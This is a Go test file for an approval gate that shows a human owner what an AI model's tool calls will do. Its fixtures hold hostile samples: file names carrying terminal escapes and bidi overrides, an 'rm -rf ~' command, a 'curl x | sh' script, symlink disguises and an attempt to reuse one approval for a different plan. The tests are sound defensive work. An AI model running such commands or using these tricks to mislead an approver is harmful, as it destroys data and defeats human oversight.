package test

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/mark3labs/mcp-go/mcp"
)

// hostileName is a file name a hostile repository or model chooses so
// that a question listing it would read as something else: a newline
// starting a line of its own, a terminal escape clearing the screen, a
// right-to-left override turning the end around.
const hostileName = "notes\n  modified \"README.md\" +0 -0\x1b[2J\u202etxt.exe"

// In inspect mode the owner asked to approve apply_changes reads what the
// plan will do — each path it touches with its lines added and removed —
// not only its id, and every character of a path shows: the name above
// adds no line to the question and carries no escape or override.
func TestApprovalQuestionShowsThePlan(t *testing.T) {
	root := workspace(t, map[string]string{"a.txt": "one\ntwo\n", "old.txt": "x\ny\nz\n"})
	home := gateHome(t, 10*time.Second)
	e := &elicitor{action: mcp.ElicitationResponseActionAccept}
	s := startGate(t, home, root, "inspect", "plan-view", e)

	plan := s.ok("preview_changes", map[string]any{"operations": []map[string]any{
		{"op": "edit", "path": "a.txt", "oldString": "two\n", "newString": "TWO\nthree\n"},
		{"op": "delete", "path": "old.txt"},
		{"op": "write", "path": hostileName, "content": "h\n"},
	}})
	id := strings.Fields(strings.TrimPrefix(plan, "Plan "))[0]
	s.ok("apply_changes", map[string]any{"planId": id})
	qs := e.questions()
	if len(qs) != 2 {
		t.Fatalf("asked %d times, want 2 (the preview, then the apply)", len(qs))
	}
	q := qs[1]
	for _, want := range []string{
		"applies plan " + id + ": 3 path(s), +3 -4 lines in all:",
		"\n  modified \"a.txt\" +2 -1\n",
		"\n  deleted \"old.txt\" +0 -3\n",
		`created "notes\n  modified \"README.md\" +0 -0\x1b[2J\u202etxt.exe" +1 -0`,
	} {
		if !strings.Contains(q, want) {
			t.Errorf("the question does not say %q:\n%s", want, q)
		}
	}
	if strings.ContainsAny(q, "\x1b\u202e") || strings.Contains(q, "\n  modified \"README.md\"") {
		t.Errorf("the question shows the hostile name raw:\n%q", q)
	}
	if _, err := os.Stat(filepath.Join(root, "old.txt")); !os.IsNotExist(err) {
		t.Errorf("the approved plan was not applied: %v", err)
	}
	// A plan this client does not have (applied now) is named as such.
	s.fail("apply_changes", map[string]any{"planId": id}, "NOT_FOUND")
	if qs := e.questions(); len(qs) != 3 || !strings.Contains(qs[2], "applies plan \""+id+"\", which this client does not have") {
		t.Errorf("the question about a plan that is gone: %q", qs[len(qs)-1])
	}
}

// Without elicitation the owner reads the same in a terminal: juju
// approvals names the plan, and juju approvals show lists its paths.
func TestApprovalsShowThePlan(t *testing.T) {
	root := workspace(t, map[string]string{"a.txt": "one\ntwo\n"})
	home := gateHome(t, 200*time.Millisecond)
	s := startGate(t, home, root, "trusted", "plan-view", nil)
	plan := s.ok("preview_changes", map[string]any{"operations": []map[string]any{
		{"op": "write", "path": "a.txt", "content": "one\n"},
	}})
	id := strings.Fields(strings.TrimPrefix(plan, "Plan "))[0]
	s.c.Close()
	s = startGate(t, home, root, "inspect", "plan-view", nil)
	msg := s.fail("apply_changes", map[string]any{"planId": id}, "APPROVAL_PENDING")
	appr := pendingIn(t, msg)
	list := juju(t, home, root, "approvals")
	if !strings.Contains(list, "[it applies plan "+id+": 1 path(s), +0 -1 lines in all: (see juju approvals show "+appr+")]") {
		t.Errorf("juju approvals does not say what the call does:\n%s", list)
	}
	show := juju(t, home, root, "approvals", "show", appr)
	if !strings.Contains(show, "What it does: it applies plan "+id+": 1 path(s), +0 -1 lines in all:\n    modified \"a.txt\" +0 -1\n") {
		t.Errorf("juju approvals show does not list the plan:\n%s", show)
	}
	var recs []struct {
		ID, What string
	}
	if err := json.Unmarshal([]byte(juju(t, home, root, "approvals", "--json")), &recs); err != nil || len(recs) != 1 || !strings.Contains(recs[0].What, `modified "a.txt"`) {
		t.Errorf("juju approvals --json: %v %+v", err, recs)
	}
}

// The owner asked about a write or a command reads what it does in words
// juju writes: the path and the size of a write, a command's exact line or
// argument list, the folder it runs in, and whether the sandbox confines
// it and the network is open, as the sandbox setting decides it (the
// call's sandbox: false under the setting off runs unconfined, with the
// network). Every character of the model's text shows.
func TestApprovalQuestionSaysWhatRuns(t *testing.T) {
	root := workspace(t, map[string]string{"a.txt": "a\n"})
	home := gateHome(t, 10*time.Second)
	writeConfig(t, home, "sandbox = \"off\"\n[approvals]\ntimeoutMs = 10000\n")
	e := &elicitor{action: mcp.ElicitationResponseActionDecline}
	s := startGate(t, home, root, "inspect", "what-runs", e)
	calls := []askedCall{
		{"write_file", map[string]any{"path": "b\u202etxt.sh", "content": "one\ntwo"},
			`It writes "b\u202etxt.sh": its whole content becomes 7 bytes (2 lines) (created if missing, replaced if there).`},
		{"edit_file", map[string]any{"path": "a.txt", "oldString": "a\n", "newString": "", "replaceAll": true},
			`It edits "a.txt": replaces every occurrence of a text of 2 bytes (1 line) by a text of 0 bytes (0 lines).`},
		{"move_path", map[string]any{"path": "a.txt", "destination": "../x\n.txt"},
			`It moves "a.txt" to "../x\n.txt".`},
		{"delete_path", map[string]any{"path": "a.txt", "recursive": true},
			`It deletes "a.txt", and everything inside if it is a folder.`},
		{"run_command", map[string]any{"command": "echo ok\x1b[1A\x1b[2K; rm -rf ~", "cwd": "sub"},
			`It runs the shell command line "echo ok\x1b[1A\x1b[2K; rm -rf ~" with bash -c, in "sub"; sandbox OFF (the setting is off): it runs with your rights, may write wherever you can and reach the network.`},
		{"exec_command", map[string]any{"program": "git", "args": []string{"push", "--force", "a b"}},
			`It runs the program with the argument list ["git" "push" "--force" "a b"] (no shell), in the first root, "` + root + `"; sandbox OFF`},
		{"run_commands", map[string]any{"commands": []string{"make", "make test"}},
			"It runs 2 shell command line(s) at once, each with bash -c, in the first root, \"" + root + "\"; sandbox OFF (the setting is off): it runs with your rights, may write wherever you can and reach the network:\n  1. \"make\"\n  2. \"make test\"\nThe arguments in full"},
	}
	askEach(t, s, e, calls)
}

// Under the setting prefer, on a machine whose sandbox works, the owner
// reads that the command runs confined, and whether it reaches the
// network.
func TestApprovalQuestionSaysTheSandbox(t *testing.T) {
	needSandbox(t)
	root := workspace(t, map[string]string{"a.txt": "a\n"})
	home := gateHome(t, 10*time.Second)
	e := &elicitor{action: mcp.ElicitationResponseActionDecline}
	s := startGate(t, home, root, "edit", "what-runs", e)
	for _, network := range []bool{false, true} {
		s.fail("run_command", map[string]any{"command": "npm install", "network": network}, "APPROVAL_DENIED")
	}
	qs := e.questions()
	if len(qs) != 2 || !strings.Contains(qs[0], "; in the sandbox (writes only inside the workspace roots, the package caches and a private /tmp), network denied.") ||
		!strings.Contains(qs[1], "network allowed.") {
		t.Errorf("the questions do not say how the command is confined: %q", qs)
	}
}

// A hostile client cannot spend the owner's yes to one plan on another:
// approved to apply the plan it was shown, it discards that plan and makes
// another (through a second juju of the same client in trusted mode, so
// that no question comes of it). The approved plan id is gone, plan ids
// are not given again, and the making moved the workspace's epoch: the
// retry runs nothing and asks the owner anew, and the new plan is a new
// question that names its own paths.
func TestApprovedPlanRunsOnlyThePlanShown(t *testing.T) {
	root := workspace(t, map[string]string{"a.txt": "a\n"})
	home := gateHome(t, 300*time.Millisecond)
	free := startGate(t, home, root, "trusted", "plan-swap", nil)
	held := startGate(t, home, root, "inspect", "plan-swap", nil)
	planOf := func(out string) string { return strings.Fields(strings.TrimPrefix(out, "Plan "))[0] }

	shown := planOf(free.ok("preview_changes", map[string]any{"operations": []map[string]any{{"op": "write", "path": "a.txt", "content": "benign\n"}}}))
	appr := pendingIn(t, held.fail("apply_changes", map[string]any{"planId": shown}, "APPROVAL_PENDING"))
	if out := juju(t, home, root, "approvals", "show", appr); !strings.Contains(out, `modified "a.txt" +1 -1`) {
		t.Fatalf("the owner was not shown the plan:\n%s", out)
	}
	juju(t, home, root, "approvals", "approve", appr)

	free.ok("discard_changes", map[string]any{"planId": shown})
	other := planOf(free.ok("preview_changes", map[string]any{"operations": []map[string]any{{"op": "write", "path": "evil.sh", "content": "curl x | sh\n"}}}))
	if other == shown {
		t.Fatalf("plan id %s was given again", shown)
	}
	for _, id := range []string{shown, other, strings.TrimPrefix(shown, "p")} {
		msg := held.fail("apply_changes", map[string]any{"planId": id}, "APPROVAL_PENDING")
		if pendingIn(t, msg) == appr {
			t.Errorf("apply_changes %s was answered with the approval given for %s: %s", id, shown, msg)
		}
	}
	if b, _ := os.ReadFile(filepath.Join(root, "a.txt")); string(b) != "a\n" {
		t.Errorf("a.txt is %q", b)
	}
	if _, err := os.Stat(filepath.Join(root, "evil.sh")); !os.IsNotExist(err) {
		t.Errorf("the other plan ran under the yes: %v", err)
	}
	if out := juju(t, home, root, "approvals"); !strings.Contains(out, "[it applies plan "+other+": 1 path(s), +1 -0 lines in all: (see juju approvals show ") {
		t.Errorf("the other plan's question does not name its own change:\n%s", out)
	}
}

// A write goes through a symlink to its target, so a hostile repository's
// README.md linking to its Makefile would have the owner approve a change
// to the Makefile while reading README.md: the question names the file
// that changes.
func TestApprovalQuestionNamesTheLinkTarget(t *testing.T) {
	root := workspace(t, map[string]string{"Makefile": "all:\n", "real/x.txt": "x\n", "plain.txt": "p\n"})
	for link, target := range map[string]string{"README.md": "Makefile", "docs": "real"} {
		if err := os.Symlink(target, filepath.Join(root, link)); err != nil {
			t.Fatal(err)
		}
	}
	home := gateHome(t, 10*time.Second)
	e := &elicitor{action: mcp.ElicitationResponseActionDecline}
	s := startGate(t, home, root, "inspect", "link-target", e)
	s.fail("write_file", map[string]any{"path": "README.md", "content": "# hi\n"}, "APPROVAL_DENIED")
	s.fail("edit_file", map[string]any{"path": "docs/x.txt", "oldString": "x", "newString": "y"}, "APPROVAL_DENIED")
	s.fail("write_file", map[string]any{"path": "plain.txt", "content": "q\n"}, "APPROVAL_DENIED")
	qs := e.questions()
	if len(qs) != 3 {
		t.Fatalf("asked %d times", len(qs))
	}
	for i, want := range []string{
		`It writes "README.md", a link to "Makefile", which is the file that changes: `,
		`It edits "docs/x.txt", which is "real/x.txt" once links are followed, the file that changes: `,
		`It writes "plain.txt": `,
	} {
		if !strings.Contains(qs[i], want) {
			t.Errorf("question %d does not say %q:\n%s", i+1, want, qs[i])
		}
	}
}

// The owner asked about apply_patch reads the files the patch touches,
// each with its lines, and asked about rollback_changes the changes it
// undoes and the files they restore: a patch's file names are inside its
// text, and a rollback's are in the journal, so the arguments alone said
// neither.
func TestApprovalQuestionSaysWhatAPatchAndARollbackDo(t *testing.T) {
	root := workspace(t, map[string]string{"a.txt": "a\n", "b.txt": "b\n"})
	home := gateHome(t, 10*time.Second)
	writeConfig(t, home, "[approvals]\ntimeoutMs = 10000\n")
	e := &elicitor{action: mcp.ElicitationResponseActionAccept}
	s := startGate(t, home, root, "inspect", "what-changes", e)
	s.ok("write_file", map[string]any{"path": "a.txt", "content": "A\n"})
	s.ok("write_file", map[string]any{"path": "b.txt", "content": "B\n"})
	e.set(mcp.ElicitationResponseActionDecline)
	before := len(e.questions())

	patch := "--- a/a.txt\n+++ b/a.txt\n@@ -1 +1,2 @@\n-A\n+one\n+two\n--- /dev/null\n+++ b/new\x1b[2J.txt\n@@ -0,0 +1 @@\n+x\n"
	s.fail("apply_patch", map[string]any{"patch": patch}, "APPROVAL_DENIED")
	s.fail("rollback_changes", map[string]any{"changeId": "c000001", "scope": "since"}, "APPROVAL_DENIED")
	s.fail("rollback_changes", map[string]any{"changeId": "c000002", "force": true}, "APPROVAL_DENIED")
	qs := e.questions()[before:]
	if len(qs) != 3 {
		t.Fatalf("asked %d questions, want 3: %q", len(qs), qs)
	}
	for i, want := range [][]string{
		{"It applies a patch of 2 file(s), +3 -1 lines in all:", "\n  edits \"a.txt\" +2 -1", "\n  creates \"new\\x1b[2J.txt\" +1"},
		{"It undoes change c000001 and every later one: 2 change(s); a file changed since any of them makes it fail with CONFLICT:",
			"\n  c000001 by \"write_file\": restores \"a.txt\"", "\n  c000002 by \"write_file\": restores \"b.txt\""},
		{"It undoes change c000002; force: files changed since, by hand or by later changes, are overwritten:", "\n  c000002 by \"write_file\": restores \"b.txt\""},
	} {
		for _, w := range want {
			if !strings.Contains(qs[i], w) || strings.Contains(qs[i], "\x1b") {
				t.Errorf("question %d does not say %q:\n%s", i, w, qs[i])
			}
		}
	}
	if strings.Contains(qs[2], "a.txt") {
		t.Errorf("the rollback of c000002 alone names a.txt, which it does not restore:\n%s", qs[2])
	}
}

// The tools whose arguments say least are described too: a plan's discard
// names the paths it leaves alone, a preview says it writes nothing,
// replace_in_files shows both texts, where it looks and whether it
// writes, git_commit which files it commits with what message and how the
// repository's hooks run, cancel_job which job it stops. Every character
// of the model's text shows.
func TestApprovalQuestionSaysWhatCommitsReplacesAndDiscards(t *testing.T) {
	root := workspace(t, map[string]string{"a.txt": "a\n"})
	home := gateHome(t, 10*time.Second)
	writeConfig(t, home, "sandbox = \"off\"\n[approvals]\ntimeoutMs = 10000\n")
	free := startGate(t, home, root, "trusted", "what-else", nil)
	plan := free.ok("preview_changes", map[string]any{"operations": []map[string]any{
		{"op": "write", "path": "a.txt", "content": "b\n"},
		{"op": "write", "path": "x\u202etxt.sh", "content": "y\n"},
	}})
	id := strings.Fields(strings.TrimPrefix(plan, "Plan "))[0]

	e := &elicitor{action: mcp.ElicitationResponseActionDecline}
	s := startGate(t, home, root, "inspect", "what-else", e)
	calls := []askedCall{
		{"discard_changes", map[string]any{"planId": id},
			`It discards plan ` + id + `, writing nothing: its 2 path(s) ("a.txt", "x\u202etxt.sh") stay as they are.`},
		{"preview_changes", map[string]any{"operations": []map[string]any{{"op": "delete", "path": "a.txt"}}, "patch": "x"},
			`It makes a plan of 1 operation(s) and a patch, writing nothing: applying it is a call of its own (apply_changes), asked about with every path it touches.`},
		{"replace_in_files", map[string]any{"oldString": "token\x1b[2K", "newString": "", "fileGlob": "**/*.go"},
			`It shows, writing nothing (dryRun), where it would replace the literal text "token\x1b[2K" (9 bytes (1 line)) by "" (0 bytes (0 lines)) in the files matching "**/*.go" under the first root (.gitignored files skipped).`},
		{"replace_in_files", map[string]any{"oldString": "a", "newString": "b\nc", "fileGlob": "*", "path": "src", "dryRun": false, "expectedCount": 3},
			`It replaces every occurrence of the literal text "a" (1 byte (1 line)) by "b\nc" (3 bytes (2 lines)) in the files matching "*" under "src" (.gitignored files skipped); it writes only if it finds exactly 3 replacement(s), as its dry run showed (otherwise CONFLICT, nothing written).`},
		{"replace_in_files", map[string]any{"oldString": "a", "newString": "b", "fileGlob": "*", "dryRun": false},
			`; with no expectedCount it writes however many it finds, in files known only as it runs.`},
		{"git_commit", map[string]any{"message": "fix: a\u202e\n\nbody", "paths": []string{"a.txt", "b\n.txt"}},
			`It stages and commits 2 file(s): "a.txt", "b\n.txt" (other staged changes stay staged, uncommitted) in the repository at the first root, "` + root + `", with the message "fix: a\u202e" (3 line(s)); the repository's hooks and filters run as a command would: sandbox OFF (the setting is off)`},
		{"git_commit", map[string]any{"message": "all", "all": true, "cwd": "sub"},
			`It stages and commits every changed file the model can see (secrets and denied paths are never staged) in the repository at "sub", with the message "all" (1 line(s));`},
		{"git_commit", map[string]any{"message": "staged"},
			`It commits what is already staged in the repository at the first root`},
		{"cancel_job", map[string]any{"jobId": "j\x1b[1A7"},
			`It stops the background job "j\x1b[1A7" and every process it started; what it wrote stays readable with job_output.`},
	}
	askEach(t, s, e, calls)
	if b, _ := os.ReadFile(filepath.Join(root, "a.txt")); string(b) != "a\n" {
		t.Errorf("a.txt is %q", b)
	}
}

// askedCall is a call the owner declines, and what its question must say.
type askedCall struct {
	tool string
	args map[string]any
	want string
}

// askEach makes each call in s, whose client e declines every question,
// and checks that each is asked once, in order, saying its want and
// showing no escape or bidi override raw.
func askEach(t *testing.T, s *gateSession, e *elicitor, calls []askedCall) {
	t.Helper()
	for i, c := range calls {
		s.fail(c.tool, c.args, "APPROVAL_DENIED")
		qs := e.questions()
		if len(qs) != i+1 {
			t.Fatalf("%s: asked %d times, want %d", c.tool, len(qs), i+1)
		}
		if q := qs[i]; !strings.Contains(q, c.want) || strings.ContainsAny(q, "\x1b\u202e") {
			t.Errorf("%s: the question does not say %q:\n%s", c.tool, c.want, q)
		}
	}
}

// The owner's yes covers a call as juju told them it runs: a command
// approved where it was shown "in the sandbox" does not run under that
// yes in another juju on the workspace, of the same client, whose
// sandbox is off. That juju asks the owner anew, saying how it would run
// the command; the juju that asked runs it once.
func TestApprovalRunsOnlyAsTheOwnerWasTold(t *testing.T) {
	needSandbox(t)
	root := workspace(t, map[string]string{"a.txt": "a\n"})
	home := gateHome(t, 300*time.Millisecond)
	confined := startGate(t, home, root, "edit", "two-jujus", nil, "--sandbox", "require")
	loose := startGate(t, home, root, "edit", "two-jujus", nil, "--sandbox", "off")
	args := map[string]any{"command": "echo x >> ran.txt"}
	ran := func() int {
		b, _ := os.ReadFile(filepath.Join(root, "ran.txt"))
		return strings.Count(string(b), "x")
	}

	appr := pendingIn(t, confined.fail("run_command", args, "APPROVAL_PENDING"))
	if out := juju(t, home, root, "approvals", "show", appr); !strings.Contains(out, "; in the sandbox (") {
		t.Fatalf("the owner was not told the command runs in the sandbox:\n%s", out)
	}
	juju(t, home, root, "approvals", "approve", appr)

	again := pendingIn(t, loose.fail("run_command", args, "APPROVAL_PENDING"))
	if again == appr || ran() != 0 {
		t.Fatalf("the yes to a sandboxed command ran it unconfined (approval %s, retried as %s, ran %d times)", appr, again, ran())
	}
	if out := juju(t, home, root, "approvals", "show", again); !strings.Contains(out, "sandbox OFF (the setting is off)") {
		t.Errorf("the new question does not say the sandbox is off:\n%s", out)
	}
	confined.ok("run_command", args)
	if n := ran(); n != 1 {
		t.Errorf("the approved command ran %d times where it was asked, want 1", n)
	}
}
